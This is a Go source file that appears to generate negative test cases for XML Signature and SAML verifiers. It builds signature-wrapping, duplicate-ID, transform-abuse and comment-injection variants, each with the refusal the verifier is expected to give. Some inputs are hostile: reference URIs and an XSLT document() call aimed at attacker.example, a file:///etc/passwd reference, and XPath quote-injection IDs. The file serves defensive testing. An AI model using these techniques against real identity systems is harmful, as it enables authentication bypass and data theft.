package attack

import (
	"encoding/base64"
	"strings"

	"github.com/beevik/etree"
)

// Family B: the signature itself. What is changed inside SignedInfo is signed
// again with the trusted key, so that its shape is all that is wrong with it.

func signatureCases() []Case {
	return append(append(append(presence(), references()...), transforms()...), contents()...)
}

// sig is a case that changes the signature just made.
func sig(id string, o Outcome, f func(*draft, *signature)) Case {
	return Case{ID: id, Outcome: o, attack: change{signed: f}}
}

// resigned is a case that changes SignedInfo and signs it again.
func resigned(id string, o Outcome, f func(*signature)) Case {
	return sig(id, o, func(_ *draft, s *signature) { f(s); s.ok() })
}

var shape = refuse("SignatureShape")

func presence() []Case {
	return []Case{
		{ID: "B01", Outcome: refuse("Unsigned"), attack: change{setup: unsigned}},
		sig("B02/empty", shape, func(_ *draft, s *signature) { s.el.Child = nil }),
		sig("B02/no-signature-value", shape, func(_ *draft, s *signature) { s.el.RemoveChild(s.value) }),
		sig("B02/empty-signature-value", shape, func(_ *draft, s *signature) { s.value.SetText("") }),
		sig("B02/no-signed-info", shape, func(_ *draft, s *signature) { s.el.RemoveChild(s.info) }),
		sig("B02/key-info-only", shape, func(_ *draft, s *signature) { s.el.RemoveChild(s.info); s.el.RemoveChild(s.value) }),
		{ID: "B02/outer", Outcome: shape, Needs: bothOnly, attack: change{after: func(d *draft) { d.respSig.el.Child = nil }}},
		resigned("B03", shape, func(s *signature) { s.info.RemoveChild(s.ref) }),
		resigned("B04/twice", shape, func(s *signature) { s.info.AddChild(s.ref.Copy()) }),
		resigned("B04/other-element", shape, func(s *signature) {
			other := s.ref.Copy()
			other.CreateAttr("URI", "#"+s.d.otherThan(s.parent).SelectAttrValue("ID", ""))
			s.info.AddChild(other)
		}),
		resigned("B04/wrong-first", shape, func(s *signature) {
			wrong := s.ref.Copy()
			wrong.SelectElement("DigestValue").SetText(s.d.digestOf(sha256Digest, nil))
			s.info.InsertChildAt(s.ref.Index(), wrong)
		}),
	}
}

func uri(id, value string) Case {
	return resigned(id, shape, func(s *signature) {
		s.ref.CreateAttr("URI", strings.ReplaceAll(value, "%", s.parent.SelectAttrValue("ID", "")))
	})
}

// renamedID moves the ID of the signed element to an attribute of another name,
// which the Reference then names. ID itself stays, with another value, or not.
func renamedID(id, name string, keep bool) Case {
	return resigned(id, shape, func(s *signature) {
		value := s.parent.SelectAttrValue("ID", "")
		if keep {
			s.parent.CreateAttr("ID", s.d.newID())
		} else {
			s.parent.RemoveAttr("ID")
		}
		s.parent.CreateAttr(name, value)
		s.redigest()
	})
}

func references() []Case {
	duplicate := func(id, attr string, f func(d *draft) *etree.Element) Case {
		return signedSo(id, "ID", func(d *draft) { f(d).CreateAttr(attr, d.asrt.SelectAttrValue("ID", "")) })
	}
	extension := func(d *draft) *etree.Element { return wrapper(d.extensions()) }
	return []Case{
		uri("B05", ""),
		resigned("B06", shape, func(s *signature) { s.ref.RemoveAttr("URI") }),
		uri("B07/http", "http://attacker.example/signed.xml"),
		uri("B07/file", "file:///etc/passwd"),
		uri("B07/fragment", "http://attacker.example/signed.xml#%"),
		uri("B07/relative", "signed.xml#%"),
		uri("B08/xpointer-id", "#xpointer(id('%'))"),
		uri("B08/xpointer-root", "#xpointer(/)"),
		uri("B08/quoted", "#'%'"),
		uri("B08/encoded", "#%25%"),
		signedSo("B08/quote-in-id", "ID", in(set(asrt, "ID", "a' or '1'='1"), set(top, "ID", `b" or "1"="1`))),
		sig("B09/other-element", shape, func(d *draft, s *signature) {
			other := d.otherThan(s.parent)
			s.ref.CreateAttr("URI", "#"+other.SelectAttrValue("ID", ""))
			if other == d.asrt {
				s.digestOver(other)
			}
			s.ok()
		}),
		resigned("B09/unknown", shape, func(s *signature) { s.ref.CreateAttr("URI", "#"+s.d.newID()) }),
		{ID: "B09/inner-part", Outcome: shape, attack: change{
			before: set(subject, "Id", "subject"),
			signed: func(d *draft, s *signature) {
				s.ref.CreateAttr("URI", "#subject")
				s.digestOver(d.asrt.SelectElement("Subject"))
				s.ok()
			},
		}},
		duplicate("B10/response", "ID", func(d *draft) *etree.Element { return d.resp }),
		duplicate("B10/foreign-element", "ID", extension),
		duplicate("B10/capital-i", "Id", extension),
		duplicate("B10/lower-case", "id", extension),
		duplicate("B10/xml-id", "xml:id", extension),
		duplicate("B10/inside", "Id", func(d *draft) *etree.Element { return d.find(subject) }),
		rewired("B10/by-attacker", Needs{}, refuse("ID"), func(d *draft) { extension(d).CreateAttr("ID", d.asrt.SelectAttrValue("ID", "")) }),
		renamedID("B11/capital-i", "Id", false),
		renamedID("B11/lower-case", "id", false),
		renamedID("B11/xml-id", "xml:id", false),
		renamedID("B11/assertion-id", "AssertionID", false),
		renamedID("B11/id-and-capital-i", "Id", true),
		renamedID("B11/id-and-xml-id", "xml:id", true),
		resigned("B11/prefixed", shape, func(s *signature) {
			s.parent.CreateAttr("xmlns:x", "urn:example:x")
			s.parent.CreateAttr("x:ID", s.parent.SelectAttrValue("ID", ""))
			s.parent.CreateAttr("ID", s.d.newID())
			s.redigest()
		}),
	}
}

// otherThan is the Response for the assertion, and the other way round.
func (d *draft) otherThan(el *etree.Element) *etree.Element {
	if el == d.resp {
		return d.asrt
	}
	return d.resp
}

// transform puts one more transform at a place among the two.
func transform(id string, at int, uri string, inner string) Case {
	return resigned(id, shape, func(s *signature) {
		t := node("ds:Transform", "Algorithm", uri)
		if inner != "" {
			t.AddChild(s.d.parse(inner))
		}
		s.transforms.InsertChildAt(at, t)
	})
}

// instead changes the algorithm of the second transform.
func instead(id string, o Outcome, uri string) Case {
	return resigned(id, o, func(s *signature) {
		s.exclusive().CreateAttr("Algorithm", uri)
		s.redigest()
	})
}

const (
	xsltURI    = "http://www.w3.org/TR/1999/REC-xslt-19991116"
	xpathURI   = "http://www.w3.org/TR/1999/REC-xpath-19991116"
	stylesheet = `<xsl:stylesheet xmlns:xsl="http://www.w3.org/1999/XSL/Transform" version="1.0"><xsl:template match="/">` +
		`<xsl:value-of select="document('http://attacker.example/')"/></xsl:template></xsl:stylesheet>`
	heavyXPath = `<ds:XPath xmlns:ds="` + nsDSig + `">count(//. | //@* | //namespace::*) &gt; count(//.//.//.//.)</ds:XPath>`
)

func transforms() []Case {
	algo := refuse("Algorithm")
	return []Case{
		transform("B12/added", 1, xsltURI, stylesheet),
		transform("B12/last", 2, xsltURI, stylesheet),
		instead("B12/only", algo, xsltURI),
		transform("B13", 1, xpathURI, heavyXPath),
		transform("B14/c14n-again", 2, excC14N, ""),
		transform("B14/enveloped-again", 1, enveloped, ""),
		resigned("B14/hundred", shape, func(s *signature) {
			for range 100 {
				algorithm(s.transforms, "ds:Transform", excC14N)
			}
		}),
		transform("B15/base64", 2, nsDSig+"base64", ""),
		transform("B15/decrypt", 0, "http://www.w3.org/2002/07/decrypt#XML", ""),
		instead("B15/instead-of-c14n", algo, nsDSig+"base64"),
		resigned("B16/missing", shape, func(s *signature) { s.transforms.RemoveChild(s.transforms.ChildElements()[0]) }),
		resigned("B16/order", shape, func(s *signature) { s.transforms.AddChild(detach(s.transforms.ChildElements()[0])) }),
		resigned("B16/no-transforms", shape, func(s *signature) { s.ref.RemoveChild(s.transforms) }),
		resigned("B16/no-c14n", shape, func(s *signature) { s.transforms.RemoveChild(s.exclusive()) }),
		sig("B17/empty", shape, func(_ *draft, s *signature) { s.el.CreateElement("ds:Object") }),
		sig("B17/data", shape, func(d *draft, s *signature) { s.el.CreateElement("ds:Object").AddChild(d.parse(forgedStatement)) }),
		resigned("B18", shape, func(s *signature) {
			object := s.el.CreateElement("ds:Object")
			manifest := child(object, "ds:Manifest", "Id", "manifest")
			ref := s.ref.Copy()
			ref.SelectElement("DigestValue").SetText(s.d.digestOf(sha256Digest, nil)) // no reader checks it
			manifest.AddChild(ref)
			s.ref.CreateAttr("URI", "#manifest")
			s.ref.CreateAttr("Type", nsDSig+"Manifest")
			s.digestOver(manifest)
		}),
		{ID: "B19/attacker-last", Outcome: shape, attack: change{after: second(false)}},
		{ID: "B19/attacker-first", Outcome: shape, attack: change{after: second(true)}},
		sig("B19/same-twice", shape, func(_ *draft, s *signature) { s.parent.InsertChildAt(s.el.Index(), s.el.Copy()) }),
		sig("B20/forged-last", shape, secondInfo(false)),
		sig("B20/forged-first", shape, secondInfo(true)),
		sig("B20/in-key-info", shape, func(d *draft, s *signature) {
			forge(d)
			genuine := s.info.Copy()
			s.redigest()
			s.el.AddChild(genuine)
		}),
	}
}

// last is the signature under attack, for changes after everything is signed.
func (d *draft) last() *signature {
	if d.asrtSig != nil {
		return d.asrtSig
	}
	return d.respSig
}

// second puts a signature by the attacker beside the genuine one.
func second(first bool) func(*draft) {
	return func(d *draft) {
		if !d.needsAttacker() {
			return
		}
		genuine := d.last()
		own := d.sign(genuine.parent, d.p.AttackerKey)
		if !first {
			genuine.parent.RemoveChild(own.el)
			genuine.parent.InsertChildAt(genuine.el.Index()+1, own.el)
		}
	}
}

// secondInfo forges the content and adds a SignedInfo that fits it.
func secondInfo(first bool) func(*draft, *signature) {
	return func(d *draft, s *signature) {
		forge(d)
		genuine := s.info.Copy()
		s.redigest()
		at := s.info.Index()
		if first {
			at++
		}
		s.el.InsertChildAt(at, genuine)
	}
}

// forgedDigest is a digest that does not fit what was signed.
func forgedDigest(d *draft) string { return d.digestOf(sha256Digest, []byte("forged")) }

func contents() []Case {
	text := func(id string, o Outcome, tag string, f func(d *draft, value string) string) Case {
		return Case{ID: id, Outcome: o, attack: change{text: func(d *draft, doc string) string {
			before, rest, ok := strings.Cut(doc, "<ds:"+tag+">")
			value, after, ok2 := strings.Cut(rest, "</ds:"+tag+">")
			if !ok || !ok2 {
				d.fail("no %s", tag)
			}
			return before + "<ds:" + tag + ">" + f(d, value) + "</ds:" + tag + ">" + after
		}}}
	}
	split := func(with string) func(*draft, string) string {
		return func(_ *draft, v string) string { return v[:10] + with + v[10:] }
	}
	all := func(before, after string) func(*draft, string) string {
		return func(_ *draft, v string) string { return before + v + after }
	}
	comment, pi, bad := refuse("Text"), refuse("XML"), shape
	return append([]Case{
		text("B21/forged-first", comment, "DigestValue", func(d *draft, v string) string { return forgedDigest(d) + "<!---->" + v }),
		text("B21/forged-inside", comment, "DigestValue", func(d *draft, v string) string { return "<!--" + forgedDigest(d) + "-->" + v }),
		text("B21/split", comment, "DigestValue", split("<!-- -->")),
		text("B22/comment-in-signature-value", comment, "SignatureValue", split("<!-- -->")),
		text("B22/pi-in-signature-value", pi, "SignatureValue", split("<?x?>")),
		text("B22/pi-in-digest-value", pi, "DigestValue", split("<?x?>")),
		// CDATA is text, here as everywhere.
		text("B22/cdata-in-signature-value", accept(), "SignatureValue", all("<![CDATA[", "]]>")),
		text("B22/cdata-in-digest-value", accept(), "DigestValue", all("<![CDATA[", "]]>")),
		withCertificate(text("B22/comment-in-certificate", comment, "X509Certificate", split("<!-- -->"))),
		withCertificate(text("B22/pi-in-certificate", pi, "X509Certificate", split("<?x?>"))),
		text("B23/junk-in-signature-value", bad, "SignatureValue", split("!")),
		text("B23/junk-in-digest-value", bad, "DigestValue", split("*")),
		text("B23/padding-in-the-middle", bad, "SignatureValue", split("=")),
		text("B23/url-alphabet", bad, "DigestValue", func(_ *draft, v string) string { return "-_" + v[2:] }),
		text("B23/no-padding", bad, "DigestValue", func(_ *draft, v string) string { return strings.TrimRight(v, "=") }),
		text("B23/element", refuse("SignatureShape", "Text"), "SignatureValue", split("<x/>")),
		sig("B23/white-space", accept(), func(_ *draft, s *signature) {
			fold := func(el *etree.Element) { el.SetText("\n\t" + el.Text()[:20] + " \n" + el.Text()[20:] + "\n") }
			fold(s.digestValue)
			s.ok()
			fold(s.value)
		}),
		sig("B23/loose-bits", bad, func(_ *draft, s *signature) {
			s.digestValue.SetText(looseBits(s.digestValue.Text()))
			s.ok()
		}),
	}, append(algorithms(), trust()...)...)
}

// withCertificate: the case is about KeyInfo.
func withCertificate(c Case) Case {
	c.base.setup = func(d *draft) { d.keyInfo = true }
	return c
}

// looseBits spells the same octets another way: the bits that padding leaves
// over are set.
func looseBits(b64 string) string {
	const alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/"
	at := strings.IndexByte(b64, '=') - 1
	if at < 0 {
		return b64
	}
	return b64[:at] + string(alphabet[strings.IndexByte(alphabet, b64[at])|1]) + b64[at+1:]
}

func encode(b []byte) string { return base64.StdEncoding.EncodeToString(b) }
